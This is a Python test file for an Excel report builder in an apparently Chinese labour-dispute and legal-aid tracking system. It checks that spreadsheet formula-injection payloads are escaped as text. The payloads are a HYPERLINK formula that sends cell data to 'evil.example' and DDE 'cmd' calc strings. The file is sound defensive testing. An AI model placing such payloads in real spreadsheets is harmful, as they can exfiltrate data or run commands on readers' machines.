"""The Excel report built from hand-made read-model rows (no broker, no database)."""

from __future__ import annotations

import io
import uuid
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook

from projection import report
from projection.periods import Period

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看详情")',
    "+86-139-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def as_read_back(text: str) -> str:
    """XML turns a carriage return into a line feed when the workbook is read back."""
    return text.replace("\r", "\n")


def figures(employers: int = 0) -> dict[str, Any]:
    breakdown: list[dict[str, Any]] = []
    return {
        "totals": {"cases": len(HOSTILE), "workers": len(HOSTILE), "group_disputes": 0},
        "figures": {
            "consultations": 0,
            "group_dispute_cases": 0,
            "group_dispute_workers": 0,
            "platform_cases": 0,
            "platform_workers": 0,
            "deadlines_at_risk": 0,
            "repeat_employers": employers,
            "repeat_employer_cases": 0,
        },
        "consultations_by_channel": breakdown,
        "by_channel": breakdown,
        "by_category": breakdown,
        "by_district": breakdown,
        "by_industry": [{"code": HOSTILE[1], "name": HOSTILE[1], "cases": 1, "workers": 1}],
        "by_status": breakdown,
        "by_urgency": breakdown,
        "mediation": {
            "disputes_mediated": 1,
            "workers_covered": 12,
            "concluded": 1,
            "succeeded": 1,
            "success_rate": 1.0,
            "money_agreed": Decimal("60000"),
            "money_recovered": Decimal("60000"),
            "days_to_resolution": 9.0,
        },
        "legal_aid": {
            "applications": 3,
            "granted": 2,
            "denied": 1,
            "provisional": 1,
            "aided": 2,
            "concluded": 2,
            "completion_rate": 1.0,
            "answered": 2,
            "satisfied": 2,
            "satisfaction_rate": 1.0,
            "money_awarded": Decimal("28000"),
            "money_recovered": Decimal("28000"),
            "granted_by_rule": [{"rule_id": "matter.art31", "applications": 2}],
            "denied_by_rule": [{"rule_id": "hardship.440300", "applications": 1}],
            "by_district": [],
        },
    }


def case(i: int, employer: str) -> dict[str, Any]:
    return {
        "case_number": f"440305-2026-{i:06d}",
        "report_day": date(2026, 3, 1),
        "district_name": "南山区",
        "channel_name": "微信公众号",
        "employer_name": employer,
        "industry_name": employer,
        "worker_count": 1,
        "category_name": "拖欠工资",
        "urgency_name": "一般",
        "status_name": "已转调解",
        "group_id": uuid.uuid4(),
        "group_number": f"QT-440305-2026-{i:06d}",
        "is_platform": True,
        "repeat_employer": True,
    }


def data(cases: list[dict[str, Any]], employers: list[dict[str, Any]]) -> report.ReportData:
    return report.ReportData(
        period=Period.parse("2026"),
        scope="全市",
        today=date(2026, 12, 2),
        figures=figures(len(employers)),
        cases=cases,
        consultations=[],
        deadlines=[],
        employers=employers,
        satisfaction=SATISFACTION,
        answers=[
            {
                "case_number": "440305-2026-000001",
                "district_name": "南山区",
                "answered_day": date(2026, 11, 3),
                "score": 5,
                "score_name": "很满意",
            }
        ],
    )


SATISFACTION = {
    "answers": 8,
    "satisfied": 7,
    "rate": 0.875,
    "by_district": [
        {"code": "440305", "name": "南山区", "answers": 8, "satisfied": 7, "rate": 0.875}
    ],
}


def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
    cases = [case(i, text) for i, text in enumerate(HOSTILE)]
    employers = [
        {
            "employer_name": text,
            "district_name": "南山区",
            "window_days": 90,
            "case_count": 3,
            "flagged_at": datetime(2026, 3, 1, tzinfo=UTC),
            "case_numbers": ["440305-2026-000001"],
            "reason": text,
        }
        for text in HOSTILE
    ]
    book = load_workbook(io.BytesIO(report.workbook(data(cases, employers))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for hostile in map(as_read_back, HOSTILE):
        assert "'" + hostile in texts, hostile  # the text survives, behind a quote
        assert hostile not in texts
    listed = [row[4] for row in book["受理案件"].iter_rows(min_row=2, values_only=True)]
    assert listed == ["'" + as_read_back(text) for text in HOSTILE]


def test_ordinary_text_and_numbers_are_written_unchanged() -> None:
    assert report.cell_value("深圳市鹏程建筑劳务有限公司") == "深圳市鹏程建筑劳务有限公司"
    assert report.cell_value("  其中：12351热线") == "  其中：12351热线"
    assert report.cell_value(-3) == -3
    assert report.cell_value(date(2026, 1, 1)) == date(2026, 1, 1)


def test_the_report_says_the_satisfaction_rate_and_lists_each_answer() -> None:
    book = load_workbook(io.BytesIO(report.workbook(data([case(1, "某公司")], []))))
    overview = [row for row in book["汇总"].iter_rows(values_only=True)]
    assert ("调解满意率（4–5分份数 ÷ 收回份数）", "87.5%", None, "满意度评价") in overview
    # Legal aid's rate beside mediation's (legal aid's figure: one per application).
    assert (
        "法律援助满意率（4–5分件数 ÷ 已评价件数，目标≥95%）",
        "100%",
        "2/2件",
        "满意度评价",
    ) in overview
    assert ("满意率：南山区", "87.5%", "8份", "满意度评价") in overview
    answers = list(book["满意度评价"].iter_rows(min_row=2, values_only=True))
    assert [a[0] for a in answers] == ["440305-2026-000001"] and answers[0][3] == 5
    paragraph = report.summary_paragraph(data([], []))
    assert "收回评价8份" in paragraph and "满意率87.5%" in paragraph
    assert "法律援助结案后收回职工评价2件" in paragraph and "满意率100%（目标≥95%）" in paragraph
    none = report.ReportData(
        **{**data([], []).__dict__, "satisfaction": {**SATISFACTION, "answers": 0, "rate": None}}
    )
    assert "本期尚未收回调解的职工满意度评价" in report.summary_paragraph(none)


def test_the_report_states_legal_aid_figures_instead_of_pending() -> None:
    book = load_workbook(io.BytesIO(report.workbook(data([], []))))
    rows = {r[0]: r for r in book["汇总"].iter_rows(values_only=True) if r and r[0]}
    assert rows["  提供法律援助（决定援助或先行援助）"][1] == 2
    assert rows["  办结率（办结/提供援助）"][1:4:2] == ("100.0%", "2/2")
    assert rows["  满意率（4–5分/已评价）"][1] == "100.0%"
    assert rows["  为职工挽回经济损失（实际追回）"][1] == 28000
    assert rows["  不予援助依据：hardship.440300"][1] == 1
    assert not any(str(name).startswith("提供法律援助件数") for name in rows)
